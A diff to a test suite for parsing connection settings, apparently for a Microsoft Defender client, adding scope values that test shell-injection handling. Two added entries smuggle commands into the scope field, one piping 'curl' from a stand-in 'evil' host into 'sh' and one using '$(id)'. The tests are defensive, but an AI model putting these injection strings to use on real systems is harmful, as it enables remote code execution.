@@ -94,6 +94,9 @@ suite('reading a connection', () => {
     ['authority', { ...CUSTOM, authority: 'https://login.example/tenant' }],
     ['scope', { scope: 'https://api.securitycenter.microsoft.com/.default' }],
     ['scope', { ...CUSTOM, scope: 'Machine.LiveResponse' }],
+    // It stands in commands that people copy into a shell.
+    ['scope', { ...CUSTOM, scope: 'https://x.example;curl${IFS}evil|sh;#/.default' }],
+    ['scope', { ...CUSTOM, scope: 'https://x.example/$(id)/.default' }],
     ['scope', { ...CUSTOM, scope: 'https://one.example/.default https://two.example/.default' }],
     ['certificatePath', { signIn: 'clientCertificate' }],
     ['certificatePath', { signIn: 'clientCertificate', certificatePath: 'defender.pem' }],
